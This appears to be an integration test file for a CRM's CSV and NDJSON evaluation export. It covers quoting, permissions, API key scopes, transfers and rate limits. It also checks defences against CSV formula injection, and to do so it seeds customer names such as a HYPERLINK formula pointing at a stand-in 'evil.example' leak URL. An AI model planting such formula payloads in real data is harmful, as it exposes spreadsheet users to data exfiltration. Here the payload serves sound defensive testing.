import 'reflect-metadata';
import { randomBytes, randomUUID } from 'node:crypto';
import express from 'express';
import { pino } from 'pino';
import supertest from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashSecret } from '../../api/src/common/auth/session.js';
import { EXPORT_COLUMNS, exportEvaluationsHandler } from '../../api/src/modules/evaluation/evaluation.export.js';
import type { Principal } from '../fixtures/baseline.js';
import { createTestApp, type TestApp } from '../setup/app.js';

let t: TestApp;
let server: express.Express;
let cycleId: string;
let priorCycleId: string;
const QUIRKY_NAME = 'Quote "Co", Ltd\nBranch; 华东';
/** Text a spreadsheet program would run as a formula: one customer (name and registration id) per first character. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
const FORMULA_NAMES = FORMULA_STARTS.map((start, index) =>
  index === 0 ? '=HYPERLINK("https://evil.example/?leak=1","Open")' : `${start}${index}+1 Trading Co.`,
);
const FORMULA_IDS = FORMULA_STARTS.map((start, index) => `${start}91330${index}`);
/** The prior cycle's grades start like formulas too (grade names are trimmed: no tab or CR); they come back as previous_grade. */
const PRIOR_GRADES = ['=', '+', '-', '@'].map((start, index) => `${start}G${index + 1}`);
const PRIOR_NAME = '+FY2024 restated';
/** Customers in the baseline, the quirky one and the formula-like ones. */
const CUSTOMERS = 13 + FORMULA_STARTS.length;
const EAST_CUSTOMERS = 10 + FORMULA_STARTS.length;

/**
 * docs/bi-export.md: a CSV text field starting with =, +, -, @, tab or CR is written with a leading
 * apostrophe, which a CSV reader keeps; other text comes back as it was.
 */
function asSpreadsheetText(value: string): string {
  return FORMULA_STARTS.includes(value.charAt(0)) ? `'${value}` : value;
}

const sql = <T = Record<string, unknown>>(query: string, params: unknown[] = []) =>
  t.orm.em.fork().getConnection().execute<T[]>(query, params);

/** An API key row as createApiKey would write it; returns the bearer token. */
async function apiKey(scopes: string[], territories: string[]): Promise<string> {
  const prefix = randomBytes(6).toString('hex');
  const secret = randomBytes(32).toString('base64url');
  const id = randomUUID();
  await sql(`insert into api_key (id, name, prefix, secret_hash, kind, scopes, created_by_id) values (?, ?, ?, ?, 'BI', ?::text[], ?)`, [
    id,
    `bi ${prefix}`,
    prefix,
    hashSecret(secret),
    `{${scopes.join(',')}}`,
    t.baseline.users.admin.id,
  ]);
  for (const region of territories) await sql('insert into api_key_territory (api_key_id, region_id) values (?, ?)', [id, region]);
  return `acc_${prefix}_${secret}`;
}

/** RFC 4180: fields separated by commas, records by CRLF, quoted fields may hold anything with quotes doubled. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += char;
  }
  if (field || record.length) throw new Error('the last record does not end with CRLF');
  return records;
}

function objects(records: string[][]): Record<string, string>[] {
  const [header, ...rows] = records;
  return rows.map((row) => Object.fromEntries(header!.map((name, index) => [name, row[index]!])));
}

const exportAs = (token: string | null, query: Record<string, string>) => {
  const request = supertest(server)
    .get('/export/evaluations')
    .query(query)
    .buffer(true)
    .parse((res, done) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (body += chunk));
      res.on('end', () => done(null, body));
    });
  return token ? request.set('authorization', `Bearer ${token}`) : request;
};

const FEED = `query ($id: ID!, $after: String) { evaluations(cycleId: $id, first: 100, after: $after) {
  pageInfo { hasNextPage endCursor }
  edges { node { customer { id legalName } purchaseCount purchaseAmount amountPaid onTimeShare averageDaysLate contribution score grade rankInRegion rankOverall previousGrade movement quadrant valueTier customerValue updatedAt territory { code } region { code } } }
} }`;

/** Every result the connection gives a viewer, page after page. */
async function connection(send: (variables: Record<string, unknown>) => Promise<{ body: any }>): Promise<Record<string, any>[]> {
  const nodes: Record<string, any>[] = [];
  let after: string | null = null;
  do {
    const { body } = await send({ id: cycleId, after });
    // Only admins get the company-wide contribution and score (docs/evaluation.md); nothing else may fail.
    expect(
      (body.errors ?? []).filter(
        (error: any) => !(error.extensions?.code === 'FORBIDDEN' && ['contribution', 'score'].includes(error.path?.at(-1))),
      ),
    ).toEqual([]);
    nodes.push(...body.data.evaluations.edges.map((edge: any) => edge.node));
    after = body.data.evaluations.pageInfo.hasNextPage ? body.data.evaluations.pageInfo.endCursor : null;
  } while (after);
  return nodes;
}

const asUser = (who: Principal) => (variables: Record<string, unknown>) =>
  t
    .http()
    .post('/graphql')
    .set('authorization', `Bearer ${t.tokenFor(who)}`)
    .send({ query: FEED, variables });
const asKey = (token: string) => (variables: Record<string, unknown>) =>
  t.http().post('/graphql').set('authorization', `Bearer ${token}`).send({ query: FEED, variables });

/** The connection's node in the export's terms (CSV: text, '' for null). */
function asCsvRow(node: Record<string, any>): Record<string, string> {
  const text = (value: unknown) => (value === null || value === undefined ? '' : String(value));
  return {
    customer_id: node.customer.id,
    customer_name: asSpreadsheetText(text(node.customer.legalName)),
    region_code: asSpreadsheetText(text(node.region?.code)),
    territory_code: asSpreadsheetText(text(node.territory?.code)),
    purchase_count: text(node.purchaseCount),
    purchase_amount: node.purchaseAmount,
    amount_paid: node.amountPaid,
    on_time_share: text(node.onTimeShare),
    average_days_late: text(node.averageDaysLate),
    contribution: text(node.contribution),
    score: text(node.score),
    grade: asSpreadsheetText(text(node.grade)),
    rank_in_region: text(node.rankInRegion),
    rank_overall: text(node.rankOverall),
    previous_grade: asSpreadsheetText(text(node.previousGrade)),
    movement: text(node.movement),
    quadrant: text(node.quadrant),
    value_tier: text(node.valueTier),
    customer_value: text(node.customerValue),
    updated_at: node.updatedAt,
  };
}

/** Numbers compare as numbers (PostgreSQL and JavaScript may spell a double differently). */
function comparable(row: Record<string, string>): Record<string, unknown> {
  const numeric = new Set([
    'purchase_count',
    'on_time_share',
    'average_days_late',
    'contribution',
    'score',
    'rank_in_region',
    'rank_overall',
  ]);
  return Object.fromEntries(
    Object.keys(asCsvRow({ customer: {}, region: null, territory: null })).map((key) => [
      key,
      numeric.has(key) && row[key] !== '' ? Number(row[key]) : row[key],
    ]),
  );
}

beforeAll(async () => {
  t = await createTestApp();
  server = express();
  server.get('/export/evaluations', exportEvaluationsHandler(t.orm, t.app.config, pino({ level: 'silent' })));
  await sql(
    `insert into customer (id, legal_name, normalized_name, territory_id, owner_id, registration_id, created_at, updated_at) values (?, ?, 'quote co branch', ?, ?, '9133QUIRKY', '2025-03-01T00:00:00Z', '2025-03-01T00:00:00Z')`,
    [randomUUID(), QUIRKY_NAME, t.baseline.regions.hangzhou.id, t.baseline.users.repHangzhou.id],
  );
  for (const [index, name] of FORMULA_NAMES.entries()) {
    await sql(
      `insert into customer (id, legal_name, normalized_name, territory_id, owner_id, registration_id, created_at, updated_at) values (?, ?, ?, ?, ?, ?, '2024-03-01T00:00:00Z', '2024-03-01T00:00:00Z')`,
      [randomUUID(), name, `formula ${index}`, t.baseline.regions.hangzhou.id, t.baseline.users.repHangzhou.id, FORMULA_IDS[index]],
    );
  }
  const prior = await t.gqlAs('admin', `mutation ($input: CreateEvaluationCycleInput!) { createEvaluationCycle(input: $input) { id } }`, {
    input: {
      name: PRIOR_NAME,
      periodStart: '2024-01-01',
      periodEnd: '2024-12-31',
      weights: { purchaseCount: 0.2, purchaseAmount: 0.2, amountPaid: 0.2, paymentTimeliness: 0.2, contribution: 0.2 },
      grades: PRIOR_GRADES.map((name, index) => ({ name, minScore: (PRIOR_GRADES.length - 1 - index) * 10 })),
    },
  });
  priorCycleId = prior.data!.createEvaluationCycle.id;
  await runCycle(priorCycleId);
  expect(
    (await t.gqlAs('admin', `mutation ($id: ID!) { publishEvaluationCycle(id: $id) { status } }`, { id: priorCycleId })).errors,
  ).toBeUndefined();
  const created = await t.gqlAs('admin', `mutation ($input: CreateEvaluationCycleInput!) { createEvaluationCycle(input: $input) { id } }`, {
    input: {
      name: 'FY2025, "annual"',
      periodStart: '2025-01-01',
      periodEnd: '2025-12-31',
      weights: { purchaseCount: 0.2, purchaseAmount: 0.2, amountPaid: 0.2, paymentTimeliness: 0.2, contribution: 0.2 },
      grades: [
        { name: 'A, top', minScore: 50 },
        { name: 'B', minScore: 0 },
      ],
    },
  });
  cycleId = created.data!.createEvaluationCycle.id;
  await runCycle(cycleId);
});

async function runCycle(id: string): Promise<void> {
  await t.gqlAs('admin', `mutation ($id: ID!) { runEvaluationCycle(id: $id) { status } }`, { id });
  for (let attempt = 0; attempt < 300; attempt += 1) {
    const { data } = await t.gqlAs('admin', `query ($id: ID!) { evaluationRun(cycleId: $id) { status } }`, { id });
    if (data!.evaluationRun.status === 'DONE') return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error('the run did not finish');
}

afterAll(async () => {
  await t?.close();
});

describe('CSV export', () => {
  it('streams RFC 4180 CSV with the documented header that parses back to what the connection gives', async () => {
    const response = await exportAs(t.tokenFor('admin'), { cycle: cycleId, format: 'csv' });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    const text = response.body as string;
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    expect(text.endsWith('\r\n')).toBe(true);
    const records = parseCsv(text);
    expect(records[0]).toEqual(EXPORT_COLUMNS.map((column) => column.name));
    const rows = objects(records);
    const nodes = await connection(asUser('admin'));
    expect(rows).toHaveLength(nodes.length);
    expect(rows.length).toBe(CUSTOMERS);
    const byId = new Map(rows.map((row) => [row.customer_id, row]));
    for (const node of nodes) expect(comparable(byId.get(node.customer.id)!)).toEqual(comparable(asCsvRow(node)));
    // Quoting: commas, quotes and line breaks survive; the cycle name is the same on every row.
    expect(rows.map((row) => row.customer_name)).toContain(QUIRKY_NAME);
    expect(new Set(rows.map((row) => row.cycle_name))).toEqual(new Set(['FY2025, "annual"']));
    expect(rows.find((row) => row.customer_name === QUIRKY_NAME)!.registration_id).toBe('9133QUIRKY');
    expect(text).toContain('"Quote ""Co"", Ltd\nBranch; 华东"');
  });

  it('adds a byte-order mark only when asked', async () => {
    const response = await exportAs(t.tokenFor('admin'), { cycle: cycleId, format: 'csv', bom: 'true' });
    expect((response.body as string).charCodeAt(0)).toBe(0xfeff);
  });

  it('gives a rep the accounts they may open', async () => {
    const response = await exportAs(t.tokenFor('repNingbo'), { cycle: cycleId, format: 'csv' });
    const rows = objects(parseCsv(response.body));
    const nodes = await connection(asUser('repNingbo'));
    expect(rows.map((row) => row.customer_id).sort()).toEqual(nodes.map((node) => node.customer.id).sort());
    expect(rows).toHaveLength(3);
  });

  it('leaves the company-wide contribution and score out for anyone but admins, and every other column as it is', async () => {
    const csvOf = async (who: Principal) =>
      new Map(
        objects(parseCsv((await exportAs(t.tokenFor(who), { cycle: cycleId, format: 'csv' })).body)).map((row) => [row.customer_id, row]),
      );
    const ndjsonOf = async (who: Principal) =>
      new Map(
        ((await exportAs(t.tokenFor(who), { cycle: cycleId, format: 'ndjson' })).body as string)
          .trim()
          .split('\n')
          .map((line) => JSON.parse(line) as Record<string, unknown>)
          .map((row) => [row.customer_id, row]),
      );
    const [adminCsv, adminJson] = [await csvOf('admin'), await ndjsonOf('admin')];
    expect([...adminCsv.values()].some((row) => Number(row.contribution) > 0)).toBe(true);
    expect([...adminCsv.values()].some((row) => Number(row.score) > 0)).toBe(true);
    for (const who of ['repNingbo', 'managerEast'] as const) {
      const [csv, json] = [await csvOf(who), await ndjsonOf(who)];
      expect(csv.size, who).toBeGreaterThan(0);
      expect(json.size, who).toBe(csv.size);
      for (const [id, row] of csv) expect(row, who).toEqual({ ...adminCsv.get(id), contribution: '', score: '' });
      for (const [id, row] of json) expect(row, who).toEqual({ ...adminJson.get(id), contribution: null, score: null });
    }
  });
});

describe('CSV text that starts like a formula', () => {
  const NUMERIC = [
    'purchase_count',
    'purchase_amount',
    'amount_paid',
    'on_time_share',
    'average_days_late',
    'contribution',
    'score',
    'rank_in_region',
    'rank_overall',
    'customer_value',
  ];
  const formulaRows = (rows: Record<string, string>[]) =>
    rows.filter((row) => FORMULA_NAMES.some((name) => row.customer_name === `'${name}`));

  /** No field a spreadsheet would run: nothing parses back starting with =, +, -, @, tab or CR, bar numbers. */
  function expectNoLiveFormula(rows: Record<string, string>[]): void {
    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) {
        if (NUMERIC.includes(column)) expect(value === '' || Number.isFinite(Number(value)), `${column} ${value}`).toBe(true);
        else expect(FORMULA_STARTS, `${column} ${JSON.stringify(value)}`).not.toContain(value.charAt(0));
      }
    }
  }

  it('gets a leading apostrophe inside quotes: names, registration ids and previous grades, for an admin', async () => {
    const text = (await exportAs(t.tokenFor('admin'), { cycle: cycleId, format: 'csv' })).body as string;
    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=1"",""Open"")",`);
    const rows = objects(parseCsv(text));
    expectNoLiveFormula(rows);
    const formulas = formulaRows(rows);
    expect(formulas).toHaveLength(FORMULA_STARTS.length);
    for (const [index, name] of FORMULA_NAMES.entries()) {
      const row = formulas.find((candidate) => candidate.customer_name === `'${name}`)!;
      expect(row.registration_id).toBe(`'${FORMULA_IDS[index]}`);
      expect(PRIOR_GRADES.map((grade) => `'${grade}`)).toContain(row.previous_grade);
    }
  });

  it('gets the apostrophe in grades and cycle names too, for a BI key; NDJSON is not altered', async () => {
    const key = await apiKey(['evaluations:read', 'customers:read', 'pii:read'], [t.baseline.regions.east.id]);
    const response = await exportAs(key, { cycle: priorCycleId, format: 'csv' });
    expect(response.status).toBe(200);
    const rows = objects(parseCsv(response.body));
    expectNoLiveFormula(rows);
    expect(new Set(rows.map((row) => row.cycle_name))).toEqual(new Set([`'${PRIOR_NAME}`]));
    expect(rows.every((row) => PRIOR_GRADES.map((grade) => `'${grade}`).includes(row.grade))).toBe(true);
    expect(
      formulaRows(rows)
        .map((row) => row.registration_id)
        .sort(),
    ).toEqual(FORMULA_IDS.map((id) => `'${id}`).sort());
    const ndjson = ((await exportAs(key, { cycle: priorCycleId, format: 'ndjson' })).body as string)
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(ndjson.map((row) => row.customer_name)).toContain(FORMULA_NAMES[0]);
    expect(ndjson[0].cycle_name).toBe(PRIOR_NAME);
  });

  it('leaves numbers alone: a negative number stays a number', async () => {
    const [result] = await sql<{ id: string; customer_id: string }>(
      'select id, customer_id from evaluation where cycle_id = ? order by customer_id limit 1',
      [cycleId],
    );
    await sql('update evaluation set customer_value = -12.50 where id = ?', [result!.id]);
    const rows = objects(parseCsv((await exportAs(t.tokenFor('admin'), { cycle: cycleId, format: 'csv' })).body));
    expect(rows.find((row) => row.customer_id === result!.customer_id)!.customer_value).toBe('-12.50');
  });

  it('is rewritten by the migration in the lines a database already holds, published cycles included', async () => {
    const prior = async () => objects(parseCsv((await exportAs(t.tokenFor('admin'), { cycle: priorCycleId, format: 'csv' })).body));
    const migrator = t.orm.getMigrator();
    // As the lines were before the migration: live formulas.
    await migrator.down({ migrations: ['Migration20261202000200'] });
    try {
      expect((await prior()).map((row) => row.customer_name)).toContain(FORMULA_NAMES[0]);
    } finally {
      await migrator.up();
    }
    const rows = await prior();
    expectNoLiveFormula(rows);
    expect(formulaRows(rows)).toHaveLength(FORMULA_STARTS.length);
  });
});

describe('export lines and ownership', () => {
  it('follow an account into new hands when a manager approves its transfer', async () => {
    const csvOf = async (who: Principal) =>
      objects(parseCsv((await exportAs(t.tokenFor(who), { cycle: cycleId, format: 'csv' })).body)).map((row) => row.customer_id);
    const before = await csvOf('repNingbo');
    const moving = before[0]!;
    expect(await csvOf('repHangzhou')).not.toContain(moving);
    const requested = await t.gqlAs(
      'repHangzhou',
      `mutation ($input: RequestTransferInput!) { requestTransfer(input: $input) { id version } }`,
      {
        input: { customerId: moving, reason: 'They buy through our Hangzhou office now' },
      },
    );
    expect(requested.errors).toBeUndefined();
    const { id, version } = requested.data!.requestTransfer;
    const approved = await t.gqlAs(
      'managerEast',
      `mutation ($id: ID!, $version: Int!) { approveTransfer(id: $id, version: $version) { status } }`,
      { id, version },
    );
    expect(approved.errors).toBeUndefined();
    expect(approved.data!.approveTransfer.status).toBe('APPROVED');

    expect(await csvOf('repHangzhou')).toContain(moving);
    expect(await csvOf('repNingbo')).toEqual(before.filter((customer) => customer !== moving));
    const [line] = await sql<{ owner_id: string; territory_id: string }>(
      'select owner_id, territory_id from evaluation_export where customer_id = ?',
      [moving],
    );
    expect(line).toEqual({ owner_id: t.baseline.users.repHangzhou.id, territory_id: t.baseline.regions.hangzhou.id });
  });
});

describe('NDJSON export', () => {
  it('streams one JSON object per line with the same columns and values', async () => {
    const response = await exportAs(t.tokenFor('admin'), { cycle: cycleId, format: 'ndjson' });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = (response.body as string).split('\n');
    expect(lines.pop()).toBe('');
    const objectsOut = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(Object.keys(objectsOut[0]!)).toEqual(EXPORT_COLUMNS.map((column) => column.name));
    const nodes = new Map((await connection(asUser('admin'))).map((node) => [node.customer.id, node]));
    for (const row of objectsOut) {
      const node = nodes.get(row.customer_id as string)!;
      expect(row).toMatchObject({
        purchase_count: node.purchaseCount,
        purchase_amount: node.purchaseAmount,
        amount_paid: node.amountPaid,
        on_time_share: node.onTimeShare,
        average_days_late: node.averageDaysLate,
        score: node.score,
        grade: node.grade,
        rank_in_region: node.rankInRegion,
        rank_overall: node.rankOverall,
        movement: node.movement,
        quadrant: node.quadrant,
        value_tier: node.valueTier,
        customer_value: node.customerValue,
        updated_at: node.updatedAt,
      });
      expect(row.contribution).toBeCloseTo(node.contribution, 12);
    }
  });
});

describe('export access', () => {
  it('refuses anonymous callers, bad parameters and unknown cycles', async () => {
    expect((await exportAs(null, { cycle: cycleId })).status).toBe(401);
    expect((await exportAs(t.tokenFor('admin'), { cycle: 'nope' })).status).toBe(400);
    expect((await exportAs(t.tokenFor('admin'), { cycle: cycleId, format: 'xml' })).status).toBe(400);
    expect((await exportAs(t.tokenFor('admin'), { cycle: randomUUID() })).status).toBe(404);
  });

  it('gives a BI key published cycles only, within its territories, and registration ids only with customers:read and pii:read', async () => {
    const { east, south } = t.baseline.regions;
    const noScope = await apiKey(['customers:read'], [east.id]);
    expect((await exportAs(noScope, { cycle: cycleId })).status).toBe(403);
    const eastKey = await apiKey(['evaluations:read'], [east.id]);
    expect((await exportAs(eastKey, { cycle: cycleId })).status).toBe(404);
    const unpublished = await asKey(eastKey)({ id: cycleId });
    expect(unpublished.body.errors[0].extensions.code).toBe('NOT_FOUND');

    expect(
      (await t.gqlAs('admin', `mutation ($id: ID!) { publishEvaluationCycle(id: $id) { status } }`, { id: cycleId })).errors,
    ).toBeUndefined();
    const response = await exportAs(eastKey, { cycle: cycleId, format: 'csv' });
    expect(response.status).toBe(200);
    const records = parseCsv(response.body);
    expect(records[0]).not.toContain('registration_id');
    expect(records[0]).toEqual(EXPORT_COLUMNS.map((column) => column.name).filter((name) => name !== 'registration_id'));
    const rows = objects(records);
    const nodes = await connection(asKey(eastKey));
    expect(rows.map((row) => row.customer_id).sort()).toEqual(nodes.map((node) => node.customer.id).sort());
    expect(rows).toHaveLength(EAST_CUSTOMERS);
    expect(new Set(rows.map((row) => row.region_code))).toEqual(new Set(['EAST']));

    // docs/permissions.md: the registration id is a profile field (customers:read); the export also asks pii:read.
    const piiOnly = await apiKey(['evaluations:read', 'pii:read'], [east.id, south.id]);
    const withoutProfile = parseCsv((await exportAs(piiOnly, { cycle: cycleId, format: 'csv' })).body);
    expect(withoutProfile[0]).not.toContain('registration_id');
    expect(withoutProfile).toHaveLength(CUSTOMERS + 1);
    expect((await exportAs(piiOnly, { cycle: cycleId, format: 'ndjson' })).body).not.toContain('registration_id');
    const profileOnly = await apiKey(['evaluations:read', 'customers:read'], [east.id, south.id]);
    expect(parseCsv((await exportAs(profileOnly, { cycle: cycleId, format: 'csv' })).body)[0]).not.toContain('registration_id');
    const fullKey = await apiKey(['evaluations:read', 'customers:read', 'pii:read'], [east.id, south.id]);
    const full = objects(parseCsv((await exportAs(fullKey, { cycle: cycleId, format: 'csv' })).body));
    expect(full).toHaveLength(CUSTOMERS);
    expect(full.find((row) => row.customer_name === QUIRKY_NAME)!.registration_id).toBe('9133QUIRKY');
    const fullNdjson = ((await exportAs(fullKey, { cycle: cycleId, format: 'ndjson' })).body as string)
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(fullNdjson.find((row) => row.customer_name === QUIRKY_NAME).registration_id).toBe('9133QUIRKY');
    const ndjson = (await exportAs(eastKey, { cycle: cycleId, format: 'ndjson' })).body as string;
    expect(ndjson).not.toContain('registration_id');
  });
});

describe('export limits', () => {
  it('runs EXPORT_CONCURRENCY exports at once (2 by default) and answers 429 with Retry-After beyond', async () => {
    const token = t.tokenFor('admin');
    const viaApp = () =>
      supertest(t.app.express).get('/export/evaluations').query({ cycle: cycleId }).set('authorization', `Bearer ${token}`);
    // Lock the cycles so the first two exports wait inside their transactions (for up to DB_LOCK_TIMEOUT_MS).
    const connection = t.orm.em.fork().getConnection();
    const hold = await connection.begin();
    await connection.execute('lock table evaluation_cycle in access exclusive mode', [], 'all', hold);
    try {
      const first = viaApp().then((response) => response);
      const second = viaApp().then((response) => response);
      await new Promise((resolve) => setTimeout(resolve, 300));
      const third = await viaApp();
      expect(third.status).toBe(429);
      expect(third.headers['retry-after']).toBe('5');
      await connection.commit(hold);
      expect((await first).status).toBe(200);
      expect((await second).status).toBe(200);
    } finally {
      await connection.rollback(hold).catch(() => undefined);
    }
    expect((await viaApp()).status).toBe(200);
  });
});
